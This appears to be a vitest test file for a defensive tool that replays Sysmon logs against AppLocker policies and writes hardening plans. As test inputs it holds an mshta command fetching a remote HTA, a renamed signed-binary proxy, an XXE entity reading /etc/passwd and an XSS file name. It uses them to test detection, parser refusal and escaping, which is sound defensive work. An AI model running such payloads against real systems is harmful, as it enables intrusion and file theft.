import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { DecidedEvent } from "../../src/pipeline/simulate.ts";
import type { Plan } from "../../src/policies/plan/plan.ts";
import type { Simulation } from "../../src/policies/simulation.ts";
import { whatran } from "../support/io.ts";
import { folder } from "../support/logs.ts";

interface Fields {
  readonly Image: string;
  readonly CommandLine?: string;
  readonly [name: string]: string | undefined;
}

let at = 0;
/** A process start as Sysmon logs it. */
const start = (fields: Fields, host = "pc-1", day = 1) =>
  JSON.stringify({
    SourceName: "Microsoft-Windows-Sysmon",
    EventID: 1,
    RecordNumber: ++at,
    Hostname: host,
    "@timestamp": `2024-05-${String(day).padStart(2, "0")}T10:00:00Z`,
    User: "CORP\\ann",
    IntegrityLevel: "Medium",
    ParentImage: "C:\\Windows\\explorer.exe",
    CommandLine: fields.Image,
    OriginalFileName: fields.Image.split("\\").at(-1),
    ProcessGuid: `{${String(at).padStart(8, "0")}-0000-0000-0000-000000000000}`,
    ...fields,
  });

const SYSTEM32 = "C:\\Windows\\System32";
const NOTEPAD = { Image: `${SYSTEM32}\\notepad.exe` };
const MSHTA = {
  Image: `${SYSTEM32}\\mshta.exe`,
  CommandLine: "mshta.exe https://files.example.net/a.hta",
  OriginalFileName: "MSHTA.EXE",
};
const RENAMED = { ...MSHTA, Image: "C:\\Users\\ann\\calc.exe" };
const ADMIN = { Image: "C:\\Users\\ann\\tool.exe", IntegrityLevel: "High" };
const USERS = { Image: "C:\\Users\\ann\\game.exe" };

const APPLOCKER = `<AppLockerPolicy Version="1"><RuleCollection Type="Exe" EnforcementMode="Enabled">
<FilePathRule Id="w" Name="Windows" Description="" UserOrGroupSid="S-1-1-0" Action="Allow"><Conditions><FilePathCondition Path="%WINDIR%\\*" /></Conditions></FilePathRule>
<FilePathRule Id="a" Name="Administrators" Description="" UserOrGroupSid="S-1-5-32-544" Action="Allow"><Conditions><FilePathCondition Path="*" /></Conditions></FilePathRule>
</RuleCollection></AppLockerPolicy>`;

let dir = folder();
beforeEach(() => {
  dir = folder();
  at = 0;
});
afterEach(() => dir.remove());

const log = (...lines: readonly string[]) => dir.write("log.ndjson", `${lines.join("\n")}\n`);
const decided = (out: string) =>
  out
    .split("\n")
    .filter(Boolean)
    .map((line) => JSON.parse(line) as DecidedEvent);

describe("simulate", () => {
  it("gives one line for each event that a policy rules on", async () => {
    const policy = dir.write("a.xml", APPLOCKER);
    const logs = log(start(NOTEPAD), start(USERS), start(ADMIN));
    const { code, out, err } = await whatran(["simulate", "--policy", policy, logs, "--format", "ndjson"]);
    expect(code).toBe(0);
    expect(decided(out)).toMatchObject([
      { source: { file: logs, index: 0 }, decision: "allow", policy: "a.xml", rule: "w" },
      { source: { file: logs, index: 1 }, decision: "block", policy: "a.xml", rule: "", reason: "no rule allows it" },
      { source: { file: logs, index: 2 }, decision: "allow", policy: "a.xml", rule: "a" },
    ]);
    expect(err).toContain("1 event blocked");
  });

  it("tells attacks that were stopped and passed from people who were", async () => {
    const policy = dir.write("a.xml", APPLOCKER);
    const logs = log(start(MSHTA), start(RENAMED), start(USERS));
    const { out } = await whatran(["simulate", "-P", policy, logs, "--format", "json", "-q"]);
    const [result] = (JSON.parse(out) as Simulation).policies;
    expect(result?.stopped).toMatchObject([{ times: 1 }]);
    expect(result?.passed).toMatchObject([{ times: 1, why: "allowed by “Windows”" }]);
    expect(result?.broken).toMatchObject([{ what: USERS.Image, times: 1, hosts: ["pc-1"], users: ["CORP\\ann"] }]);
    expect(result?.byRule).toEqual([
      { rule: "", events: 2, stopped: 1, passed: 0, broken: 1, hosts: 1, users: 1 },
      { rule: "w", events: 1, stopped: 0, passed: 1, broken: 0, hosts: 0, users: 0 },
    ]);
  });

  it("lists the ways of T1218 that pass, each with a run of the logs that proves it", async () => {
    const policy = dir.write("a.xml", APPLOCKER);
    const rundll32 = {
      Image: `${SYSTEM32}\\rundll32.exe`,
      CommandLine: "rundll32.exe shell32.dll,Control_RunDLL desk.cpl",
    };
    const logs = log(start(MSHTA), start(rundll32), start({ ...rundll32, Image: "C:\\Users\\ann\\rundll32.exe" }));
    const { out } = await whatran(["simulate", "-P", policy, logs, "--format", "json", "-q"]);
    const holes = (JSON.parse(out) as Simulation).policies[0]?.holes ?? [];
    expect(holes[0]).toMatchObject({ binary: "mshta.exe", done: 1, why: "allowed by “Windows”", starts: 1, hosts: 1 });
    expect(holes[0]?.proof).toMatchObject({ file: logs, index: 0, host: "pc-1", commandLine: MSHTA.CommandLine });
    const scriptlets = holes.find(({ behaviour }) => behaviour === "windows/rundll32/script");
    expect(scriptlets).toMatchObject({ done: 0, starts: 1, proof: { index: 1 } });
    const text = await whatran(["simulate", "-P", policy, logs, "--format", "table", "-q"]);
    expect(text.out).toContain("T1218 behaviours that this policy lets pass");
    expect(text.out).toMatch(/possible Runs script text through the HTML application host \(T1218\.011\)/);
  });

  it("says of no way that it passes where its library is kept out", async () => {
    const dll = `<RuleCollection Type="Dll" EnforcementMode="Enabled"><FilePathRule Id="d" Name="Windows" Description="" UserOrGroupSid="S-1-1-0" Action="Allow"><Conditions><FilePathCondition Path="%WINDIR%\\*" /></Conditions></FilePathRule></RuleCollection></AppLockerPolicy>`;
    const policy = dir.write("a.xml", APPLOCKER.replace("</AppLockerPolicy>", dll));
    const regsvr32 = {
      Image: `${SYSTEM32}\\regsvr32.exe`,
      CommandLine: "regsvr32.exe /s C:\\Windows\\System32\\a.dll",
    };
    const { out } = await whatran(["simulate", "-P", policy, log(start(regsvr32)), "--format", "json", "-q"]);
    const ids = ((JSON.parse(out) as Simulation).policies[0]?.holes ?? []).map(({ behaviour }) => behaviour);
    expect(ids).toContain("windows/regsvr32/scriptlet");
    expect(ids).not.toContain("windows/regsvr32/register");
  });

  it("compares two policies", async () => {
    const now = dir.write("now.xml", APPLOCKER);
    const next = dir.write("next.xml", APPLOCKER.replace("Enabled", "AuditOnly"));
    const { out } = await whatran([
      "simulate",
      "-P",
      now,
      "-P",
      next,
      "--diff",
      log(start(USERS)),
      "--format",
      "table",
    ]);
    expect(out).toContain("1 × block → audit");
  });

  it.each([
    ["no policy", [], "simulate needs --policy"],
    ["a file that is none", ["-P", "log.ndjson"], "no policy of a product"],
    ["one that is not there", ["-P", "gone.xml"], "cannot be read"],
    ["a format that is not known", ["-P", "a.xml", "-t", "pdf"], "--format must be"],
    ["one policy to compare", ["-P", "a.xml", "--diff"], "--policy twice"],
  ])("refuses %s", async (_, more, message) => {
    dir.write("a.xml", APPLOCKER);
    const logs = log(start(NOTEPAD));
    const { code, err } = await whatran(["simulate", logs, ...more], { cwd: join(logs, "..") });
    expect(code).toBe(2);
    expect(err).toContain(message);
  });

  it("refuses a policy with entities, and says where", async () => {
    const policy = dir.write("evil.xml", `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n${APPLOCKER}`);
    const { code, err, out } = await whatran(["simulate", "-P", policy, log(start(NOTEPAD))]);
    expect(code).toBe(2);
    expect(err).toContain("evil.xml: line 1, column 1: a document type");
    expect(out).toBe("");
  });
});

describe("harden", () => {
  const ordinary = () => {
    const lines = ["pc-1", "pc-2", "pc-3", "pc-4"].flatMap((host) => [
      start(NOTEPAD, host),
      start(
        {
          Image: `${SYSTEM32}\\rundll32.exe`,
          CommandLine: "rundll32.exe shell32.dll,Control_RunDLL desk.cpl",
          OriginalFileName: "RUNDLL32.EXE",
        },
        host,
        2,
      ),
    ]);
    return lines;
  };

  it("writes a plan and policies that its own simulation takes for one policy", async () => {
    const past = dir.write("past.ndjson", `${ordinary().join("\n")}\n`);
    const out = join(past, "..", "hardening");
    const { code, err } = await whatran(["harden", past, "--out", out, "--mode", "enforce"]);
    expect(code).toBe(0);
    expect(err).toMatch(/\d+ measures from 8 starts on 4 hosts/);
    const names = readdirSync(out);
    expect(names).toEqual(
      expect.arrayContaining([
        "plan.md",
        "plan.html",
        "plan.json",
        "appcontrol.xml",
        "applocker.xml",
        "firewall.ps1",
        "associations.xml",
      ]),
    );
    const plan = JSON.parse(readFileSync(join(out, "plan.json"), "utf8")) as Plan;
    const denied = plan.measures.find(({ id }) => id === "deny-windows_mshta");
    expect(denied).toMatchObject({ mitigation: "M1042", mode: "enforce", cost: { times: 0 } });
    const markdown = readFileSync(join(out, "plan.md"), "utf8");
    for (const word of ["**Evidence**", "**Stops**", "**Cost**", "**Does not see**", "**Roll out**", "**Roll back**"])
      expect(markdown).toContain(word);

    const logs = log(start(MSHTA), start(RENAMED), start(NOTEPAD));
    const simulated = await whatran(["simulate", "-P", out, logs, "--format", "ndjson", "-q"]);
    const starts = decided(simulated.out);
    expect(starts.map(({ policy, decision }) => [policy, decision])).toEqual([
      ["hardening", "block"],
      ["hardening", "block"],
      ["hardening", "allow"],
    ]);
    expect(starts[1]?.rule).toMatch(/^appcontrol:/);
  });

  it("denies nothing that is used, and writes audit mode unless told otherwise", async () => {
    const used = ["pc-1", "pc-2", "pc-3"].map((host) =>
      start({ Image: `${SYSTEM32}\\msdt.exe`, CommandLine: "msdt.exe -id DeviceDiagnostic" }, host),
    );
    const past = dir.write("past.ndjson", `${[...ordinary(), ...used].join("\n")}\n`);
    const out = join(past, "..", "h");
    expect((await whatran(["harden", past, "-o", out, "-q"])).code).toBe(0);
    expect(readFileSync(join(out, "appcontrol.xml"), "utf8")).toContain("Enabled:Audit Mode");
    expect(readFileSync(join(out, "appcontrol.xml"), "utf8")).not.toContain('FileName="msdt.exe"');
    expect(readFileSync(join(out, "applocker.xml"), "utf8")).not.toContain('EnforcementMode="Enabled"');
  });

  it("escapes what it was told for the plan’s languages", async () => {
    // The plan names it as what a rule for children of Outlook would have stopped.
    const evil = {
      Image: "C:\\Users\\ann\\<img src=x onerror=alert(1)>|[x](y).exe",
      ParentImage: "C:\\Office\\OUTLOOK.EXE",
    };
    const lines = Array.from({ length: 12 }, (_, i) => start(evil, `pc-${i}`));
    const past = dir.write("past.ndjson", `${[...ordinary(), ...lines].join("\n")}\n`);
    const out = join(past, "..", "h");
    await whatran(["harden", past, "-o", out, "-q"]);
    for (const name of readdirSync(out).filter((one) => !/^plan\.(?:md|json)$/.test(one)))
      expect(readFileSync(join(out, name), "utf8")).not.toContain("<img");
    expect(readFileSync(join(out, "plan.md"), "utf8")).toContain("\\<img src=x onerror=alert(1)\\>\\|\\[x\\](y).exe");
    expect(readFileSync(join(out, "plan.html"), "utf8")).toContain("&lt;img src=x onerror=alert(1)&gt;");
  });

  it.each([
    ["no history", [], "harden needs logs"],
    ["a mode that is not known", ["log.ndjson", "--mode", "hard"], "--mode must be"],
    ["a history without starts", ["empty.ndjson"], "no start of a program"],
  ])("refuses %s", async (_, words, message) => {
    const logs = log(start(NOTEPAD));
    dir.write(
      "empty.ndjson",
      `${JSON.stringify({ SourceName: "x", EventID: 1, "@timestamp": "2024-05-01T10:00:00Z" })}\n`,
    );
    const { code, err } = await whatran(["harden", ...words, "-o", "out"], { cwd: join(logs, "..") });
    expect(code).toBe(2);
    expect(err).toContain(message);
  });

  it("does not write into a folder that is in use", async () => {
    const logs = log(...ordinary());
    const { code, err } = await whatran(["harden", logs, "-o", join(logs, "..")]);
    expect(code).toBe(2);
    expect(err).toContain("--clobber");
  });

  it("plans from a baseline, too", async () => {
    const past = dir.write("past.ndjson", `${ordinary().join("\n")}\n`);
    const baseline = join(past, "..", "b");
    expect((await whatran(["learn", past, "--baseline", baseline, "-q"])).code).toBe(0);
    const out = join(past, "..", "h");
    expect((await whatran(["harden", "--baseline", baseline, "-o", out, "-q"])).code).toBe(0);
    expect(readFileSync(join(out, "appcontrol.xml"), "utf8")).toContain('FileName="mshta.exe"');
  });
});
